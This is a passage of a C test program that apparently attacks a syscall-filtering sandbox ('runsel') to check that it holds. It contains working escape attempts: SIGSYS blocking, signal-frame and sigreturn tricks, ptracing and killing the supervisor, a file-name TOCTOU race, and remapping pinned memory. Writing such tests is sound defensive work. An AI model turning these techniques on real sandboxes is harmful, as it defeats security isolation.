    int r = sigprocmask(SIG_BLOCK, &set, NULL);
    sigprocmask(SIG_BLOCK, NULL, &now);
    found("sigprocmask(SIG_BLOCK, SIGSYS)=%d, reads back blocked: %s, kernel blocks it: %d", r,
          sigismember(&now, SIGSYS) ? "yes" : "no", kernel_blocks(SIGSYS));
    effects(own_syscall);
}

/* A signal whose handler runs in the program's own code: SIGUSR1 made
 * pending while blocked, then unblocked.  (raise() alone would run the
 * handler inside runsel's SIGSYS handler — the tgkill is an intercepted
 * call — whose own rt_sigreturn then restores runsel's frame, not ours.) */
static void deliver_usr1(void (*h)(int, siginfo_t *, void *))
{
    struct sigaction sa = {.sa_sigaction = h, .sa_flags = SA_SIGINFO};
    sigset_t usr1;

    sigemptyset(&usr1);
    sigaddset(&usr1, SIGUSR1);
    sigaction(SIGUSR1, &sa, NULL);
    sigprocmask(SIG_BLOCK, &usr1, NULL);
    raise(SIGUSR1);
    sigprocmask(SIG_UNBLOCK, &usr1, NULL);
}

static char usr1_where[96];

static void note_where(const ucontext_t *uc)
{
    static struct map m[MAX_MAPS];
    uintptr_t rip = (uintptr_t)uc->uc_mcontext.gregs[REG_RIP];
    int n = read_maps(m, MAX_MAPS);

    snprintf(usr1_where, sizeof(usr1_where), "?");
    for (int i = 0; i < n; i++)
        if (rip >= m[i].lo && rip < m[i].hi)
            snprintf(usr1_where, sizeof(usr1_where), "%s", base_name(m[i].path));
}

/* The frame a handler returns through, edited: SIGSYS in its mask. */
static void on_usr1_mask(int sig, siginfo_t *si, void *ucv)
{
    ucontext_t *uc = ucv;

    (void)sig, (void)si;
    note_where(uc);
    sigaddset(&uc->uc_sigmask, SIGSYS);
    found("SIGUSR1 handler (interrupted in %s) put SIGSYS into the frame's mask", usr1_where);
}

static void atk_sigreturn_mask(void)
{
    deliver_usr1(on_usr1_mask);
    /* nothing between the return and the effects: their first call shows */
    effects(own_syscall);
}

/* sigreturn into a syscall instruction: the handler rewrites its frame so
 * that rt_sigreturn resumes at a site with the call's registers and the
 * primed landing stack; site_landing then returns from srop_call. */
long srop_call(const struct site_regs *r);
long srop_fire(const struct site_regs *r);
__asm__(".text\n"
        ".globl srop_call\n.hidden srop_call\n.type srop_call,@function\n"
        "srop_call:\n"
        "  push %rbx\n  push %rbp\n  push %r12\n  push %r13\n  push %r14\n  push %r15\n"
        "  mov %rsp, site_saved_rsp(%rip)\n"
        "  sub $8, %rsp\n"
        "  call srop_fire\n"            /* returns only when the handler did not redirect */
        "  jmp site_landing\n"
        ".size srop_call, .-srop_call\n");

static const struct site_regs *srop_regs;

static void on_usr1_srop(int sig, siginfo_t *si, void *ucv)
{
    greg_t *g = ((ucontext_t *)ucv)->uc_mcontext.gregs;
    const struct site_regs *r = srop_regs;

    (void)sig, (void)si;
    for (int i = LANDING_SLOTS - 64; i < LANDING_SLOTS; i++)
        landing_stack[i] = (uintptr_t)site_landing;
    g[REG_RIP] = (greg_t)r->site;
    g[REG_RSP] = (greg_t)(uintptr_t)&landing_stack[LANDING_SLOTS - 56];
    g[REG_RAX] = r->nr, g[REG_RDI] = r->a, g[REG_RSI] = r->b, g[REG_RDX] = r->c;
    g[REG_R10] = r->d, g[REG_R8] = r->e, g[REG_R9] = r->f;
}

__attribute__((visibility("hidden"))) long srop_fire(const struct site_regs *r)
{
    srop_regs = r;
    deliver_usr1(on_usr1_srop);
    return -ENOSYS;
}

static long via_srop(long nr, long a, long b, long c, long d, long e, long f)
{
    struct site_regs r = {nr, a, b, c, d, e, f, cur_site};

    return srop_call(&r);
}

/* The address of own_syscall's syscall instruction. */
static uintptr_t own_site(void)
{
    const unsigned char *p = (const unsigned char *)own_syscall;

    for (int i = 0; i < 32; i++)
        if (p[i] == 0x0f && p[i + 1] == 0x05)
            return (uintptr_t)p + i;
    return 0;
}

static void atk_sigreturn_gate(void)
{
    static struct sites ss;
    const char *where = "own syscall instruction";

    find_sites(&ss);
    cur_site = own_site();
    for (int i = 0; i < ss.n; i++)
        if (ss.s[i].runsel && ss.s[i].cont == CONT_RET) {
            cur_site = ss.s[i].at;
            where = ss.s[i].where;
            break;
        }
    found("rt_sigreturn into %s", where);
    effects(via_srop);
}

/* ---- (g) the supervisor ---- */

static int stat_of(pid_t pid, pid_t *ppid, pid_t *sid, char *comm, size_t commsize)
{
    char path[64], buf[1024];
    snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return -1;
    buf[n] = 0;
    char *l = strchr(buf, '('), *r = strrchr(buf, ')');
    if (!l || !r)
        return -1;
    snprintf(comm, commsize, "%.*s", (int)(r - l - 1), l + 1);
    int p = 0, s = 0;
    if (sscanf(r + 2, "%*c %d %*d %d", &p, &s) != 2)
        return -1;
    *ppid = p, *sid = s;
    return 0;
}

static pid_t tracer_pid(void)
{
    FILE *f = fopen("/proc/self/status", "re");
    char line[256];
    int t = 0;

    if (!f)
        return 0;
    while (fgets(line, sizeof(line), f))
        if (sscanf(line, "TracerPid: %d", &t) == 1)
            break;
    fclose(f);
    return t;
}

/* ptrace it, then kill it: what a program does to the process that
 * enforces its policy. */
static void assault(pid_t pid, const char *what, char *out, size_t outsize)
{
    long pt = ptrace(PTRACE_SEIZE, pid, 0, 0) ? -errno : 0;
    long k = kill(pid, SIGKILL) ? -errno : 0;

    snprintf(out + strlen(out), outsize - strlen(out), "%s%s %d: ptrace %s, kill %s",
             out[0] ? "; " : "", what, (int)pid, pt ? err_name(pt) : "ok", k ? err_name(k) : "ok");
}

static void atk_supervisor(void)
{
    char out[700] = "", comm[64];
    const char *decoy = getenv("HOSTILE_DECOY");
    pid_t sid = getsid(0), self = getpid(), pp, ps, tracer = tracer_pid();
    int others = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;

    while (d && (e = readdir(d))) {
        pid_t pid = (pid_t)atoi(e->d_name);
        if (pid <= 0 || pid == self || pid == getppid() || pid == main_ppid)
            continue;
        if (stat_of(pid, &pp, &ps, comm, sizeof(comm)) || ps != sid || !strstr(comm, "runsel"))
            continue;
        others++;
        assault(pid, comm, out, sizeof(out));
    }
    if (d)
        closedir(d);
    /* a tracer of the test's own session (a debugger outside is left alone) */
    if (tracer > 0 && tracer != main_ppid && !stat_of(tracer, &pp, &ps, comm, sizeof(comm)) &&
        ps == sid)
        assault(tracer, "tracer", out, sizeof(out));
    if (decoy && atoi(decoy) == (int)main_ppid)
        assault(main_ppid, "parent", out, sizeof(out));
    found("tracer %d, runsel-named processes in the session %d; %s", (int)tracer, others,
          out[0] ? out : "nothing to attack");
    effects(own_syscall);
}

/* ---- racing the checked name (TOCTOU) ----
 * A name is a string in the program's memory: a wrapper that reads it,
 * judges it and lets the program's call go on with the program's pointer
 * is beaten by a thread that rewrites the string between the check and
 * the kernel's read.  One thread flips a buffer between an always-allowed
 * name (/dev/null) and DIR/ATTACK while another opens it for writing, for
 * a second; one open of the forbidden file is a write. */

static long now_ms(void);
static char race_buf[4096];
static volatile int race_stop;

static void *race_flipper(void *arg)
{
    const char *bad = arg;
    size_t n = strlen(bad) + 1;

    while (!race_stop) {
        memcpy(race_buf, "/dev/null", 10);
        memcpy(race_buf, bad, n);
    }
    return NULL;
}

/* Opens of race_buf for a second: 1 if one was the forbidden file. */
static int race_open(long *tries)
{
    char bad[4096], link[64], got[4096];
    pthread_t t;
    int won = 0;

    snprintf(bad, sizeof(bad), "%s/%s", dir, attack);
    snprintf(race_buf, sizeof(race_buf), "/dev/null");
    race_stop = 0;
    if (pthread_create(&t, NULL, race_flipper, bad))
        return 0;
    for (long end = now_ms() + 1000; !won && now_ms() < end; ++*tries) {
        long fd = own_syscall(SYS_openat, AT_FDCWD, (long)race_buf, O_WRONLY | O_CREAT, 0644, 0, 0);
        if (fd < 0)
            continue;
        snprintf(link, sizeof(link), "/proc/self/fd/%ld", fd);
        ssize_t k = readlink(link, got, sizeof(got) - 1);
        got[k > 0 ? k : 0] = 0;
        if (!strcmp(got, bad)) {
            own_syscall(SYS_write, fd, (long)attack, (long)strlen(attack), 0, 0, 0);
            won = 1;
        }
        own_syscall(SYS_close, fd, 0, 0, 0, 0, 0);
    }
    race_stop = 1;
    pthread_join(t, NULL);
    return won;
}

static void atk_race_path(void)
{
    long tries = 0;

    if (race_open(&tries))
        say("W");
    found("race: %ld opens", tries);
    try_socket(own_syscall);
}

/* The read-only anonymous mappings (a supervisor's pinned argument area
 * is one): made writable, unmapped, moved, mapped over, discarded — each
 * outcome said — then the race again. */
static void atk_pin_area(void)
{
    static struct map m[MAX_MAPS];
    int n = read_maps(m, MAX_MAPS), areas = 0, unlocked = 0;
    long tries = 0;
    char out[512] = "";

    for (int i = 0; i < n; i++) {
        if (strcmp(m[i].perms, "r--p") || m[i].path[0] || m[i].off)
            continue;
        void *lo = (void *)m[i].lo;
        size_t len = 4096;
        areas++;
        int p = mprotect(lo, len, PROT_READ | PROT_WRITE) ? errno : 0;
        if (!p) {
            memset(lo, 0, len);               /* it was writable: the area is the program's */
            unlocked++;
        }
        int u = madvise(lo, len, MADV_DONTNEED) ? errno : 0;
        void *f = mmap(lo, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        int x = f == MAP_FAILED ? errno : 0;
        unlocked += !x;
        int r = mremap(lo, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)(m[i].lo - (1UL << 32))) ==
                MAP_FAILED ? errno : 0;
        int d = munmap(lo, len) ? errno : 0;
        unlocked += !d;
        long uf = syscall(SYS_userfaultfd, 0);
        if (uf >= 0)
            close((int)uf);
        if (strlen(out) < 300)
            snprintf(out + strlen(out), sizeof(out) - strlen(out),
                     "%s%lx: mprotect %s, madvise %s, mmap-fixed %s, mremap %s, munmap %s, userfaultfd %s",
                     out[0] ? "; " : "", (unsigned long)m[i].lo, p ? strerrorname_np(p) : "ok",
                     u ? strerrorname_np(u) : "ok", x ? strerrorname_np(x) : "ok",
                     r ? strerrorname_np(r) : "ok", d ? strerrorname_np(d) : "ok",
                     uf >= 0 ? "ok" : strerrorname_np(errno));
    }
    found("read-only anonymous mappings %d, unlocked %d%s%s", areas, unlocked, out[0] ? ": " : "", out);
    if (race_open(&tries))
        say("W");
    try_socket(own_syscall);
}

/* ---- the table ---- */

struct attack {
    const char *name;
    void (*fn)(void);
};

static const struct attack attacks[] = {
    {"plain", atk_plain},
    {"own-syscall", atk_own_syscall},
    {"scan", atk_scan},
    {"thread", atk_thread},
    {"fork", atk_fork},
    {"int80", atk_int80},
    {"gate", atk_gate},
    {"text-patch", atk_text_patch},
    {"policy-zero", atk_policy_zero},
    {"policy-flip", atk_policy_flip},
    {"wipe", atk_wipe},
    {"sud-off", atk_sud_off},
    {"selector", atk_selector},
    {"exec-plain", atk_exec_plain},
    {"exec-fd", atk_exec_fd},
    {"exec-memfd", atk_exec_memfd},
    {"exec-script", atk_exec_script},
    {"exec-gate", atk_exec_gate},
    {"fork-gate", atk_fork_gate},
    {"sigsys-handler", atk_sigsys_handler},
    {"sigsys-block", atk_sigsys_block},
    {"sigreturn-mask", atk_sigreturn_mask},
    {"sigreturn-gate", atk_sigreturn_gate},
    {"supervisor", atk_supervisor},
    {"race-path", atk_race_path},
    {"pin-area", atk_pin_area},
};
#define NATTACKS (int)(sizeof(attacks) / sizeof(attacks[0]))

/* ---- running one ---- */

struct outcome {
    int wrote, connected;
    char found[2048], errors[256];
};

static void take_line(struct outcome *o, char *line)
{
    char *dst = line[0] == 'F' ? o->found : line[0] == 'E' ? o->errors : NULL;

    if (line[0] == 'W')
        o->wrote = 1;
    else if (line[0] == 'S')
        o->connected = 1;
    else if (dst && line[1] == ' ' && !strstr(dst, line + 2) &&
             strlen(dst) + strlen(line) + 4 < (dst == o->found ? sizeof(o->found) : sizeof(o->errors)))
        sprintf(dst + strlen(dst), "%s%s", dst[0] ? "; " : "", line + 2);
}

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Read the pipe until every writer is gone or ms have passed. */
static void collect(int fd, struct outcome *o, long ms)
{
    char buf[8192], line[1100];
    size_t ln = 0;
    long end = now_ms() + ms;

    for (;;) {
        struct pollfd p = {fd, POLLIN, 0};
        long left = end - now_ms();
        if (left <= 0 || poll(&p, 1, (int)left) <= 0)
            break;
        ssize_t n = read(fd, buf, sizeof(buf));
        if (n <= 0)
            break;
        for (ssize_t i = 0; i < n; i++) {
            if (buf[i] != '\n' && ln < sizeof(line) - 1) {
                line[ln++] = buf[i];
                continue;
            }
            line[ln] = 0;
            if (buf[i] == '\n')
                take_line(o, line);
            ln = 0;
        }
    }
}

static void fate(int st, char *out, size_t n)
{
    if (WIFEXITED(st))
        snprintf(out, n, "exit:%d", WEXITSTATUS(st));
    else if (WIFSIGNALED(st))
        snprintf(out, n, "killed:%s", sigabbrev_np(WTERMSIG(st)) ? sigabbrev_np(WTERMSIG(st)) : "?");
    else
        snprintf(out, n, "?");
}

/* waitpid, for at most ms: the pipe closes a moment before the exit. */
static int reaped(pid_t pid, int *st, long ms)
{
    for (long end = now_ms() + ms; now_ms() < end; usleep(2000))
        if (waitpid(pid, st, WNOHANG) == pid)
            return 1;
    return 0;
}

static void run(const struct attack *a)
{
    struct outcome o = {0};
    int p[2], st = 0;
    char end[32] = "running";

    if (pipe(p))
        return;
    attack = a->name;
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        report_fd = p[1];
        alarm(5);
        a->fn();
        exit_with(0);
    }
    close(p[1]);
    collect(p[0], &o, 8000);
    close(p[0]);
    if (pid > 0 && !reaped(pid, &st, 3000)) {
        kill(pid, SIGKILL);
        waitpid(pid, &st, 0);
        snprintf(end, sizeof(end), "hung, killed");
    } else if (pid > 0) {
        fate(st, end, sizeof(end));
    }
    printf("ATTACK %s: write=%s socket=%s; %s%s%s; end=%s\n", a->name, o.wrote ? "ok" : "denied",
           o.connected ? "ok" : "denied", o.found, o.errors[0] ? "; errors: " : "", o.errors, end);
    fflush(stdout);
}

/* An exec'd child: the effects, and whether runsel is in it. */
static int child_effects(char **argv)
{
    static struct map m[MAX_MAPS];
    int n, imgs = 0;

    report_fd = atoi(argv[0]);
    attack = argv[1];
    dir = argv[2];
    port = atoi(argv[3]);
    n = read_maps(m, MAX_MAPS);
    for (int i = 0; i < n; i++)
        imgs += is_runsel(m[i].path) && m[i].off == 0;
    found("exec'd child: runsel images mapped %d", imgs);
    return effects(own_syscall);
}

static int usage(void)
{
    fprintf(stderr, "usage: hostile ATTACK|all DIR PORT STATIC | hostile list\n");
    return 2;
}

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "list")) {
        for (int i = 0; i < NATTACKS; i++)
            puts(attacks[i].name);
        return 0;
    }
    if (argc == 6 && !strcmp(argv[1], "effects"))
        exit_with(child_effects(argv + 2));
    if (argc == 7 && !strcmp(argv[1], "script"))      /* STATIC script /dev/fd/N FD ATTACK DIR PORT */
        exit_with(child_effects(argv + 3));
    if (argc != 5)
        return usage();
    dir = argv[2];
    port = atoi(argv[3]);
    static_prog = argv[4];
    main_ppid = getppid();
    setvbuf(stdout, NULL, _IOLBF, 0);
    int any = 0;
    for (int i = 0; i < NATTACKS; i++)
        if (!strcmp(argv[1], "all") || !strcmp(argv[1], attacks[i].name)) {
            run(&attacks[i]);
            any = 1;
        }
    return any ? 0 : usage();
}
